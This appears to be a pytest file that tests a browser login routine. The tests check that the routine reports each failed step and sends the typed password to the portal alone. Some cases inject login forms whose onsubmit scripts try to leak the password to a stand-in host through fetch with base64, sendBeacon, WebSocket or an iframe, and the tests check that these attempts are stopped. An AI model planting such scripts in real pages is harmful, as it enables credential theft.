"""A login goes step by step, says where it fails, and tells what was typed to the portal alone."""

import asyncio
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any

import pytest

from auditor.secret.credentials import Credentials
from auditor.secret.redaction import Redactor
from auditor.settings.access import LoginSettings
from auditor.urls import Site
from auditor.visit import login as login_module
from auditor.visit.browser import VisitSettings
from auditor.visit.chromium import ChromiumBrowser
from auditor.visit.find_browser import BrowserProgram
from auditor.visit.login import LoginError, log_in
from tests.answering import AnsweringServer, page
from tests.behind_a_door import PASSWORD, SESSION, LoginPortal

pytestmark = pytest.mark.browser

USER = {"fill": "#user", "text": "auditor"}
SECRET = {"fill": "#password", "secret": "env:PORTAL_PASSWORD"}
CLICK = {"click": "button"}
FORM = 'method="post" action="/login"'


@dataclass(frozen=True)
class Case:
    """A login as portal.toml says it, and how it ends: "" for well. `form` replaces the page's own."""

    ends: str
    steps: tuple[dict[str, str], ...] = (USER, SECRET, CLICK)
    url: str = "login"
    proof: Mapping[str, str] | None = None
    password: str = PASSWORD
    form: str = FORM


STOPPED = (
    "the login page wanted to tell localhost what was typed, and was stopped; "
    "if that is the portal's too, name it in [portal] hosts"
)
NOT_PROVEN = "the login did not lead to an address like '/account'; it ended at {url}login"
CASES = {
    "all is well": Case(""),
    "a text proves it": Case("", proof={"proof_text": "Sign out"}),
    "both prove it": Case("", proof={"proof_text": "Sign out", "proof_url": "/account"}),
    "one of both does not": Case(
        "the login did not lead to an address like '/account' and the text 'Hello'; it ended at {url}account",
        proof={"proof_text": "Hello", "proof_url": "/account"},
    ),
    "a wrong password": Case(NOT_PROVEN, password="wrong-password"),  # noqa: S106
    "no such element": Case(
        "login step 3 (click #nothing): there was no such element within 1 s",
        (USER, SECRET, {"click": "#nothing"}),
    ),
    "several elements": Case(
        "login step 1 (fill input): it fits 2 elements", ({"fill": "input", "text": "auditor"},)
    ),
    "no CSS": Case(
        "login step 1 (click //button): it is no CSS selector", ({"click": "//button"},)
    ),
    "a text for a password": Case(
        'login step 1 (fill #password): it is a field for a password; use secret = "env:NAME", not text',
        ({"fill": "#password", "text": "hunter22"},),
    ),
    "no login page": Case("the login page {url}nowhere answered 404", url="nowhere"),
    "a proof that is there before": Case(
        "the login cannot be proven: the text 'Password' is there before it", proof={"proof_text": "Password"}
    ),
    "a page that leads elsewhere": Case(
        "login step 3 (fill #password): by then the page is on localhost, which is not the portal's",
        (USER, CLICK, SECRET),
        form='action="{stranger}"',
    ),
    "a form that is sent elsewhere": Case(STOPPED, form='method="post" action="{stranger}"'),
    "a form that writes into the address": Case(STOPPED, form='action="{stranger}"'),
    "a script that tells in base64": Case(
        STOPPED, form="onsubmit=\"fetch('{stranger}?p=' + btoa(password.value)); return false\""
    ),
    "a beacon": Case(
        STOPPED, form="onsubmit=\"navigator.sendBeacon('{stranger}', password.value); return false\""
    ),
    "a socket": Case(
        NOT_PROVEN,
        form="onsubmit=\"setTimeout(() => new WebSocket('{stranger}'.replace('http', 'ws'))); return false\"",
    ),
    "a frame": Case(
        NOT_PROVEN,
        form="onsubmit=\"p.innerHTML = '<iframe src={stranger}></iframe>'; return false\"><p id=p></p",
    ),
}  # fmt: skip


@dataclass(frozen=True)
class Ending:
    """How a login ended, and what a stranger and the portal were told meanwhile."""

    said: str
    stranger: list[str]
    logins: list[dict[str, list[str]]]
    cookies: list[Any]


@pytest.fixture(scope="module")
def endings(browser_program: BrowserProgram) -> Mapping[str, Ending]:
    """Go through all logins in one browser, each in a context of its own."""

    async def go_through() -> dict[str, Ending]:
        settings = VisitSettings(hosts=("127.0.0.1",))
        async with ChromiumBrowser(browser_program, settings, tabs=1) as browser:
            return {name: await _end(browser, case) for name, case in CASES.items()}

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(login_module, "STEP_TIMEOUT_S", 1)
        return asyncio.run(go_through())


async def _end(browser: ChromiumBrowser, case: Case) -> Ending:
    portal = LoginPortal()
    with AnsweringServer({"/": page()}) as other, AnsweringServer(portal.routes()) as server:
        stranger = other.url.replace("127.0.0.1", "localhost")
        portal.form = portal.form.replace(FORM, case.form.format(stranger=stranger))
        login = LoginSettings.model_validate(
            {
                "url": server.url + case.url,
                "steps": list(case.steps),
                **(case.proof or {"proof_url": "/account"}),
            }
        )
        credentials = Credentials(
            sites=frozenset({Site.of(server.url)}),
            only_https=False,
            redactor=Redactor([case.password]),
            typed={number: case.password for number, step in enumerate(case.steps) if "secret" in step},
            login=login,
        )
        assert browser._browser is not None
        context = await browser._browser.new_context()
        said = ""
        try:
            await log_in(context, credentials, login)
        except LoginError as error:
            said = str(error).replace(server.url, "{url}")
        cookies = await context.cookies()
        assert context.pages == []
        await context.close()
        return Ending(said, [f"{each.method} {each.path}" for each in other.asked], portal.logins, cookies)


@pytest.mark.parametrize("name", CASES)
def test_ends_as_it_should(endings: Mapping[str, Ending], name: str) -> None:
    assert endings[name].said == CASES[name].ends


@pytest.mark.parametrize("name", CASES)
def test_tells_strangers_nothing(endings: Mapping[str, Ending], name: str) -> None:
    asked = ["GET /?user=auditor&password="] if name == "a page that leads elsewhere" else []
    assert endings[name].stranger == asked
    assert PASSWORD not in endings[name].said


def test_types_what_it_is_told(endings: Mapping[str, Ending]) -> None:
    ending = endings["all is well"]
    assert ending.logins == [{"user": ["auditor"], "password": [PASSWORD]}]
    assert [(each["name"], each["value"]) for each in ending.cookies] == [("sid", SESSION)]
